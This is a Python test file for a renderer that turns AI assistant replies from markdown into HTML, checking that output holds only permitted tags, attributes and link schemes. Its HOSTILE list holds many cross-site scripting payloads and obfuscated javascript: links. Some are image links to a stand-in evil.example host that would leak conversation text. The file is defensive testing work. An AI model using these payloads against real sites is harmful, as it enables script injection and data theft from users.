"""What a model writes, as HTML that may stand on anybody's page."""

from __future__ import annotations

from html import escape
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from relight.assistant.markdown import MAX_RENDERED, SCHEMES, TAGS, Blocks, _parser, render

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<x onclick=alert(1)>x</x>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](javascript:alert(1)//https://ok.example)",
    "[a](<javascript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://ok.example/1)",
    "[a](view-source:https://ok.example/)",
    "[a](ftp://evil.example/)",
    "[a](bitcoin:1evil)",
    "[a](sms:+44123?body=yes)",
    "[a](//evil.example/)",
    "[a](/logout)",
    "[a](?delete=all)",
    "[a](#relight)",
    "[a](\\\\evil.example\\x)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "[a][b]\n\n[b]: https://ok.example/ 'x\" onmouseover=alert(1) \"'",
    '[a](https://ok.example/ "x\\" onmouseover=alert(1) x=\\"")',
    '[a](https://ok.example/"onmouseover="alert(1))',
    "[a](https://ok.example/'onmouseover='alert(1))",
    "[a](https://ok.example/`onmouseover=alert(1)`)",
    "[a](https://ok.example/><script>alert(1)</script>)",
    "[[a](javascript:alert(1))](https://ok.example/)",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "[![a](https://evil.example/leak.png)](https://ok.example/)",
    "![a](https://evil.example/leak.png?what=was+said)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a][b]\n\n[b]: https://evil.example/leak.png",
    '![<img src=x onerror=alert(1)>](x "y")',
    "<javascript:alert(1)>",
    "<javascript:alert(1)//@ok.example>",
    "<https://ok.example/<script>alert(1)</script>>",
    "<mailto:a@b.example?body=<script>alert(1)</script>>",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    "javascript:alert(1)",
    "JAVASCRIPT://ok.example/%0Aalert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '``` js" onmouseover="alert(1)\nx\n```',
    "``` x class=launcher\nx\n```",
    "```\n<script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "|a|\n|:-|\n|[x](javascript:alert(1))|",
    "# <script>alert(1)</script>",
    "999999999999. x",
    '1" onclick=alert(1). x',
    "~~<script>alert(1)</script>~~",
    "**<b onmouseover=alert(1)>**",
    "\x00<script\x00>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
)
ATTRIBUTES = {"a": {"href", "target", "rel"}, "ol": {"start"}, "code": {"class"}, "th": {"align"}, "td": {"align"}}


class _Auditor(HTMLParser):
    """Reads what came out with another parser than the one that wrote it, and notes all that should not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.tags: list[str] = []
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ("br", "hr"):
            self.open.append(tag)
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        values = dict(attrs)
        self.wrong += [f"{tag}.{name}" for name in values if name not in ATTRIBUTES.get(tag, set())]
        if tag == "a" and (values["target"], values["rel"]) != ("_blank", "noopener nofollow"):
            self.wrong.append(f"a: {values}")
        if "href" in values and urlsplit(values["href"] or "").scheme not in SCHEMES:
            self.wrong.append(f"href: {values['href']}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}> closes something else")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment: {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction: {data}")


def audited(html: str) -> _Auditor:
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    auditor.wrong += [f"<{tag}> stays open" for tag in auditor.open]
    return auditor


# --- safety -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_becomes_nothing_but_harmless_markup(text: str) -> None:
    assert audited(render(text)).wrong == []


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("frame", ["> {}", "- {}\n- b", "**{}**", "[{}](https://ok.example/)", "|a|\n|-|\n|{}|", "a {} b"])
def test_hostile_text_is_as_harmless_inside_something_else(text: str, frame: str) -> None:
    assert audited(render(frame.format(text))).wrong == []


@given(
    st.lists(
        st.sampled_from((*HOSTILE, "\n", "\n\n", "`", "```", "> ", "- ", "[", "](", ")", "<", ">", '"', "'", "&", "\\", "|")),
        max_size=12,
    )
)
def test_hostile_pieces_in_any_order_stay_harmless(pieces: list[str]) -> None:
    assert audited(render("".join(pieces))).wrong == []


@given(st.text())
def test_any_text_becomes_nothing_but_harmless_markup(text: str) -> None:
    assert audited(render(text)).wrong == []


def test_markup_that_is_text_can_be_read_as_it_was_written() -> None:
    assert audited(render("<script>alert(1)</script> & <b>bold</b>")).text.strip() == "<script>alert(1)</script> & <b>bold</b>"


def test_image_is_its_description_and_asks_nobody() -> None:
    html = render("See ![a *small* boat](https://evil.example/leak.png).")

    assert html == "<p>See a small boat.</p>\n"


@pytest.mark.parametrize(
    "address", ["https://ok.example/a?b=1&c=2", "http://ok.example/", "mailto:me@ok.example", "tel:+441234567"]
)
def test_link_of_a_known_kind_opens_a_tab_of_its_own(address: str) -> None:
    escaped = address.replace("&", "&amp;")

    assert render(f"[a]({address})") == f'<p><a href="{escaped}" target="_blank" rel="noopener nofollow">a</a></p>\n'


@pytest.mark.parametrize("address", ["/about", "//evil.example/", "#top", "about.html"])
def test_link_that_would_lead_into_the_page_leads_nowhere(address: str) -> None:
    assert "href" not in render(f"[a]({address})")


def test_text_longer_than_any_answer_is_shown_plainly() -> None:
    text = "**a** *b*\n" * 2000

    assert len(text) > MAX_RENDERED
    assert render(text) == f"<p>{text}</p>".replace("\n", "<br>\n")


COSTLY = (
    "http://a." * 300,
    "a\n\n" + "x" * 2001 + " **b**",
    "[a " * 501,
    "![" * 501,
    "|a" * 101 + "\n" + "|-" * 101 + "\n" + "|\n" * 99,
)


@pytest.mark.parametrize("text", COSTLY, ids=range(len(COSTLY)))
def test_text_that_no_answer_looks_like_is_shown_plainly_from_then_on(text: str) -> None:
    blocks, begin = Blocks(), "**b**\n\nc\n"
    plain = "<p>" + escape(begin + text).replace("\n", "<br>\n") + "</p>"

    assert blocks.feed(begin, now=0.0) == "<p><strong>b</strong></p>\n<p>c</p>\n"
    assert blocks.feed(text, now=9.0) == plain
    assert blocks.end() == plain


@pytest.mark.timeout(60)
def test_addresses_take_as_long_as_there_are_many() -> None:
    # Where each is looked for in all that stands before, as many take minutes.
    assert _parser().renderInline("<http://" * 30_000)


# --- what is rendered -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
        ("a\nb", "<p>a<br>\nb</p>"),
        ("# A\n\n###### B", "<h3>A</h3>\n<h6>B</h6>"),
        ("```py\nx < 1\n```", '<pre><code class="language-py">x &lt; 1\n</code></pre>'),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("a\r\n\r\nb", "<p>a</p>\n<p>b</p>"),
        ("", ""),
        (" \n ", ""),
    ],
)
def test_markdown_becomes_the_elements_it_means(text: str, html: str) -> None:
    assert render(text).strip() == html


def test_columns_of_a_table_keep_their_sides() -> None:
    html = render("|a|b|\n|:-:|-:|\n|1|2|")

    assert '<th align="center">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "style" not in html


@pytest.mark.parametrize("text", ["https://ok.example/a", "me@ok.org"])
def test_bare_address_is_a_link(text: str) -> None:
    assert f">{text}</a>" in render(f"See {text}.")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "**https://ok.example/a_(b)_c**",
            '<strong><a href="https://ok.example/a_(b)_c">https://ok.example/a_(b)_c</a></strong>',
        ),
        ("(HTTP://ok.example/*a*)", '(<a href="HTTP://ok.example/*a">HTTP://ok.example/*a</a>*)'),
        ("a https://ok.example, b", 'a <a href="https://ok.example">https://ok.example</a>, b'),
        ("[a](https://ok.example/~~b~~c)", '<a href="https://ok.example/~~b~~c">a</a>'),
        ("[https://b.example/](https://ok.example/)", '<a href="https://ok.example/">https://b.example/</a>'),
        ("xhttp://ok.example/", "xhttp://ok.example/"),
        ("http://", "http://"),
    ],
)
def test_signs_of_a_bare_address_are_its_own(text: str, html: str) -> None:
    assert render(text) == "<p>" + html.replace('">', '" target="_blank" rel="noopener nofollow">') + "</p>\n"


@pytest.mark.parametrize("text", ["relight.py", "e.g.so", "10.0.0.1", "ok.example"])
def test_what_only_looks_like_an_address_is_none(text: str) -> None:
    assert render(text) == f"<p>{text}</p>\n"


# --- while it comes ---------------------------------------------------------------------------------------------


def test_open_fence_runs_to_the_end() -> None:
    assert render("a\n\n```py\nx = 1") == '<p>a</p>\n<pre><code class="language-py">x = 1</code></pre>\n'


def test_list_that_begins_under_a_paragraph_makes_no_heading_of_it() -> None:
    assert audited(render("My projects:\n-")).tags == ["p", "br"]


def test_nothing_is_shown_before_a_line_has_ended() -> None:
    blocks = Blocks()

    assert [blocks.feed(word, now=1.0) for word in ("Hel", "lo ", "there.")] == [None, None, None]
    assert blocks.feed("\n", now=1.0) == "<p>Hello there.</p>\n"


def test_long_line_is_shown_before_it_ends() -> None:
    assert Blocks().feed("word " * 40, now=0.0) is not None


def test_shown_again_only_after_the_pause() -> None:
    blocks = Blocks(every_s=0.25)
    blocks.feed("a\n", now=1.0)

    assert blocks.feed("b\n", now=1.1) is None
    assert blocks.feed("c", now=1.3) == "<p>a<br>\nb<br>\nc</p>\n"


def test_nothing_new_is_not_shown_again() -> None:
    blocks = Blocks()
    blocks.feed("a\n", now=0.0)

    assert blocks.feed("", now=9.0) is None


def test_end_gives_the_whole_reply() -> None:
    blocks = Blocks()
    blocks.feed("a [b][c]\n\n", now=0.0)
    blocks.feed("[c]: https://ok.example/", now=0.0)

    assert blocks.end() == render("a [b][c]\n\n[c]: https://ok.example/")


def test_what_is_sent_in_all_stays_in_proportion_to_the_reply() -> None:
    blocks, sent, text = Blocks(), 0, ("A paragraph of some words.\n\n- an item\n- another\n\n" * 400)[:16_384]
    for at in range(0, len(text), 4):  # about a hundred tokens a second, four characters each
        sent += len(blocks.feed(text[at : at + 4], now=at / 400) or "")

    assert sent < 60 * len(text)


@pytest.mark.parametrize("text", ["word " * 3200, "- an item of a list\n" * 800, "line\n" * 3200])
def test_block_that_grows_is_parsed_in_proportion_to_its_length(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    parse, parsed = _parser().parse, 0

    def counted(text: str, references: dict[str, object]) -> object:
        nonlocal parsed
        parsed += len(text)
        return parse(text, references)

    monkeypatch.setattr(_parser(), "parse", counted)
    blocks = Blocks(every_s=0.0)
    for at in range(0, len(text), 4):
        blocks.feed(text[at : at + 4], now=float(at))

    assert len(text) < parsed < 6 * len(text)


LINES = st.sampled_from(
    [
        "text",
        "**bold",
        "- item",
        "  more",
        "1. one",
        "```py",
        "```",
        "> quote",
        "|a|b|",
        "|-|-|",
        "# head",
        "",
        "",
        "    code",
        "---",
        "\r",
    ]
)


@example(lines=["- item", "**bold", "text"], size=2)  # `*` under a list begins another one, `**` does not
@given(st.lists(LINES, max_size=20), st.integers(min_value=1, max_value=9))
def test_reply_rendered_piece_by_piece_is_the_reply_rendered_whole(lines: list[str], size: int) -> None:
    text = "\n".join(lines)
    blocks = Blocks()

    for at in range(0, len(text), size):
        shown = blocks.feed(text[at : at + size], now=float(at))
        assert shown in (None, render(text[: at + size]))
